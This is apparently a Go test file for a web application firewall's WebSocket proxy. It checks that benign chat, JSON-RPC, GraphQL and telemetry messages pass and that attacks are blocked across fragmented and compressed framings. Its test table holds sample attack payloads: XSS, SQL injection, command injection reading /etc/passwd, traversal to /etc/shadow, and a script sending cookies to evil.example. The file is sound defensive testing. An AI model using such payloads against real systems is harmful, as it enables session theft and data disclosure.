package wsproxy

import (
	"context"
	"net/netip"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/rampartwaf/rampart/internal/config"
	"github.com/rampartwaf/rampart/internal/engine"
	"github.com/rampartwaf/rampart/internal/parse"
	"github.com/rampartwaf/rampart/internal/state"
)

// Detection end to end: the real engine judges messages relayed to a real echo upstream.
// Each message is sent in every way a client may send it: one frame, split across
// fragments (with a ping between them), compressed, and compressed in fragments.

var detectionCases = []struct {
	name    string
	msg     string
	blocked bool
}{
	// Benign traffic of the applications Rampart sits in front of.
	{"chat", `{"type":"chat","room":"lobby","text":"Anyone up for a game tonight? I'll be on at 8 -- bring snacks ;)"}`, false},
	{"chat with apostrophes and markup-ish text", `{"type":"chat","text":"O'Brien said the <3 emoji means 'love' & he's right: 2 < 3"}`, false},
	{"json-rpc subscribe", `{"jsonrpc":"2.0","method":"subscribe","params":{"channel":"ticker.BTC-USD","depth":20},"id":7}`, false},
	{"json-rpc order", `{"jsonrpc":"2.0","method":"order.place","params":{"symbol":"ETH-USD","side":"buy","qty":"0.25","price":"3150.5"},"id":8}`, false},
	{"graphql subscription", `{"type":"subscribe","id":"1","payload":{"query":"subscription OnMessage($room: ID!) { messageAdded(room: $room) { id text author { name } } }","variables":{"room":"lobby"}}}`, false},
	{"iot telemetry", `{"device":"thermo-100","temp":21.5,"humidity":40,"ts":"2026-12-02T10:00:00Z","fw":"1.4.2"}`, false},
	{"game move", `{"op":"move","x":12,"y":-3,"path":"/maps/level-2/zone-a","seq":1042}`, false},
	{"plain text", `hello everyone, the select box on the order form is broken`, false},

	// Attacks, in the places these applications carry user input.
	{"xss in chat", `{"type":"chat","text":"<img src=x onerror=alert(document.cookie)>"}`, true},
	{"sqli in json-rpc params", `{"jsonrpc":"2.0","method":"user.find","params":{"name":"x' OR '1'='1' --"},"id":1}`, true},
	{"sqli in graphql variables", `{"type":"subscribe","id":"2","payload":{"query":"query($id: ID!){ user(id: $id){ name } }","variables":{"id":"1 UNION SELECT password FROM users--"}}}`, true},
	{"command injection", `{"op":"ping","host":"8.8.8.8; cat /etc/passwd"}`, true},
	{"traversal", `{"op":"download","file":"../../../../etc/shadow"}`, true},
	{"xss in plain text", `<script>fetch('//evil.example/?c='+document.cookie)</script>`, true},
}

func detectionEnv(t *testing.T) *env {
	t.Helper()
	eng, err := engine.New(engine.Options{Mode: engine.ModeBlock, Limits: parse.Limits{Params: 2048, Depth: 64}})
	if err != nil {
		t.Fatal(err)
	}
	return newEnv(t, echoUpstream(websocket.CompressionContextTakeover), envOptions{
		inspect: true, limit: 1 << 20,
		opts: func(o *Options) { o.Inspector = eng },
	})
}

func TestDetectionThroughRelay(t *testing.T) {
	const ext = "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover; server_no_context_takeover"
	split := func(s string) (a, b, c string) {
		n := len(s)
		return s[:n/3], s[n/3 : 2*n/3], s[2*n/3:]
	}
	ways := []struct {
		name   string
		header []string
		frames func(t *testing.T, msg string) [][]byte
	}{
		{"one frame", nil, func(_ *testing.T, msg string) [][]byte { return frames(cf(true, OpText, msg)) }},
		{"fragments", nil, func(_ *testing.T, msg string) [][]byte {
			a, b, c := split(msg)
			return frames(cf(false, OpText, a), cf(true, OpPing, "keepalive"), cf(false, OpContinuation, b), cf(true, OpContinuation, c))
		}},
		{"compressed", []string{ext}, func(t *testing.T, msg string) [][]byte {
			return frames(frame(true, RSV1, OpText, deflateRaw(t, []byte(msg)), true))
		}},
		{"compressed fragments", []string{ext}, func(t *testing.T, msg string) [][]byte {
			z := deflateRaw(t, []byte(msg))
			n := len(z)
			return frames(frame(false, RSV1, OpText, z[:n/2], true), frame(true, 0, OpContinuation, z[n/2:], true))
		}},
	}
	for _, way := range ways {
		t.Run(way.name, func(t *testing.T) {
			e := detectionEnv(t)
			for _, tc := range detectionCases {
				t.Run(tc.name, func(t *testing.T) {
					rc := e.dialRaw("/ws", way.header...)
					rc.send(way.frames(t, tc.msg)...)
					if tc.blocked {
						if code := rc.expectClose(); code != ClosePolicyViolation {
							t.Fatalf("close %d, want 1008", code)
						}
						rc.sendQuiet(cf(true, OpClose, closePayload(1000, "")))
						rc.expectEOF()
						return
					}
					for {
						h, p, err := rc.readFrame()
						if err != nil {
							t.Fatalf("waiting for the echo: %v", err)
						}
						if h.Opcode.IsControl() {
							if h.Opcode == OpClose {
								t.Fatalf("benign message closed the connection: %q", p)
							}
							continue // the pong
						}
						if h.Rsv&RSV1 != 0 {
							p = inflateForTest(t, p)
						}
						if string(p) != tc.msg {
							t.Fatalf("echo %q, want the message unchanged", p)
						}
						break
					}
					rc.send(cf(true, OpClose, closePayload(1000, "")))
					if code := rc.expectClose(); code != 1000 {
						t.Errorf("close reply %d", code)
					}
				})
			}
		})
	}
}

// TestDetectionLibraryClient sends the same messages with a WebSocket library (which
// compresses with context takeover), as a browser or app would.
func TestDetectionLibraryClient(t *testing.T) {
	e := detectionEnv(t)
	for _, tc := range detectionCases {
		t.Run(tc.name, func(t *testing.T) {
			c := dialWS(t, e, websocket.CompressionContextTakeover)
			ctx := testCtx(t)
			// A benign message first, so the attack rides on an inflation history.
			if err := c.Write(ctx, websocket.MessageText, []byte(`{"type":"hello"}`)); err != nil {
				t.Fatal(err)
			}
			if _, _, err := c.Read(ctx); err != nil {
				t.Fatal(err)
			}
			if err := c.Write(ctx, websocket.MessageText, []byte(tc.msg)); err != nil {
				t.Fatal(err)
			}
			_, got, err := c.Read(ctx)
			if tc.blocked {
				if websocket.CloseStatus(err) != websocket.StatusPolicyViolation {
					t.Fatalf("got %q, %v; want close 1008", got, err)
				}
				return
			}
			if err != nil || string(got) != tc.msg {
				t.Fatalf("got %q, %v; want the message echoed", got, err)
			}
			c.Close(websocket.StatusNormalClosure, "")
		})
	}
}

// TestBinaryJudgedWithoutPayload: with websocket.inspect_binary off, binary messages
// are not inspected as text, but they still go through the engine, without their
// payload: rules on the message's fields, rate limits and flagged IPs close the
// connection with 1008 as for text; the payload itself is never detected on.
func TestBinaryJudgedWithoutPayload(t *testing.T) {
	const (
		rateLimit = `
rate_limits:
  - id: ws-flood
    when: {field: protocol, op: equals, value: websocket}
    client: ip
    threshold: 3
    interval: 1m
    action: block
`
		secondBinary = `
rules:
  - id: second-binary
    when: {all: [{field: ws.opcode, op: equals, value: binary}, {field: ws.message_index, op: equals, value: 2}]}
    action: block
`
		takeover   = "Sec-WebSocket-Extensions: permessage-deflate; server_no_context_takeover"
		noTakeover = "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover; server_no_context_takeover"
	)
	payload := append(binaryOf(300), "<script>alert(document.cookie)</script>"...)
	plain := func(*deflater) [][]byte { return frames(frame(true, 0, OpBinary, payload, true)) }
	cases := []struct {
		name      string
		config    string
		flagged   bool
		ext       string
		msg       func(d *deflater) [][]byte
		send      int
		blockedAt int // the message closed with 1008 (0: none)
		reason    engine.Reason
	}{
		{"no rule: relayed, payload not inspected", "", false, "", plain, 3, 0, 0},
		{"rate limit", rateLimit, false, "", plain, 6, 4, engine.ReasonRateLimit},
		{"rule on opcode and index", secondBinary, false, "", plain, 3, 2, engine.ReasonRule},
		{"flagged IP", "", true, "", plain, 2, 1, engine.ReasonFlagged},
		{"fragmented", secondBinary, false, "", func(*deflater) [][]byte {
			return frames(frame(false, 0, OpBinary, payload[:100], true), cf(true, OpPing, "p"), frame(true, 0, OpContinuation, payload[100:], true))
		}, 3, 2, engine.ReasonRule},
		{"compressed, context takeover", secondBinary, false, takeover, func(d *deflater) [][]byte {
			return frames(frame(true, RSV1, OpBinary, d.msg(payload), true))
		}, 3, 2, engine.ReasonRule},
		{"compressed, no context takeover", secondBinary, false, noTakeover, func(d *deflater) [][]byte {
			return frames(frame(true, RSV1, OpBinary, deflateRaw(t, payload), true))
		}, 3, 2, engine.ReasonRule},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cfg, err := config.Parse("test.yaml", []byte(tc.config), config.Overrides{Upstream: "http://127.0.0.1:9"})
			if err != nil {
				t.Fatal(err)
			}
			store := state.NewMemory(state.MemoryOptions{})
			t.Cleanup(func() { store.Close() })
			if tc.flagged {
				now := time.Now()
				if err := store.SetFlag(context.Background(), state.Flag{IP: netip.MustParseAddr("127.0.0.1"), Since: now, Until: now.Add(time.Hour), Reason: "test"}); err != nil {
					t.Fatal(err)
				}
			}
			eng, err := engine.New(engine.Options{Mode: engine.ModeBlock, Limits: parse.Limits{Params: 2048, Depth: 64}, Policy: cfg.Rules, State: store})
			if err != nil {
				t.Fatal(err)
			}
			rec := newRecorder()
			e := newEnv(t, rec, envOptions{inspect: true, limit: 1 << 20, opts: func(o *Options) { o.Inspector = eng }})
			var hdr []string
			if tc.ext != "" {
				hdr = append(hdr, tc.ext)
			}
			rc := e.dialRaw("/bin", hdr...)
			d := newDeflater(t)
			for i := 1; i <= tc.send; i++ {
				rc.send(tc.msg(d)...)
				if i == tc.blockedAt {
					if code := rc.expectClose(); code != ClosePolicyViolation {
						t.Fatalf("message %d: close %d, want 1008", i, code)
					}
					break
				}
				if op, got := rc.readData(); op != OpBinary || got != string(payload) {
					t.Fatalf("message %d: echo differs", i)
				}
			}
			want := tc.send // every message judged, up to the one blocked
			if tc.blockedAt != 0 {
				want = tc.blockedAt
			}
			evs := e.messageEvents()
			if len(evs) != want {
				t.Fatalf("%d events, want %d", len(evs), want)
			}
			for i, ev := range evs {
				for _, s := range ev.Verdict.Signals {
					if s.Name == "XSS" {
						t.Errorf("message %d: the binary payload was inspected: %+v", i+1, ev.Verdict.Signals)
					}
				}
				last := i == len(evs)-1 && tc.blockedAt != 0
				if ev.Blocked != last || (last && (ev.Verdict.Reason != tc.reason || ev.CloseCode != ClosePolicyViolation)) {
					t.Errorf("message %d: event %+v", i+1, ev)
				}
			}
			if tc.blockedAt != 0 {
				rc.sendQuiet(cf(true, OpClose, closePayload(1000, "")))
				rc.expectEOF()
				rec.waitStatus(t)
				if got := rec.got(); len(got) != tc.blockedAt-1 {
					t.Errorf("upstream received %d messages, want %d", len(got), tc.blockedAt-1)
				}
			}
		})
	}
}
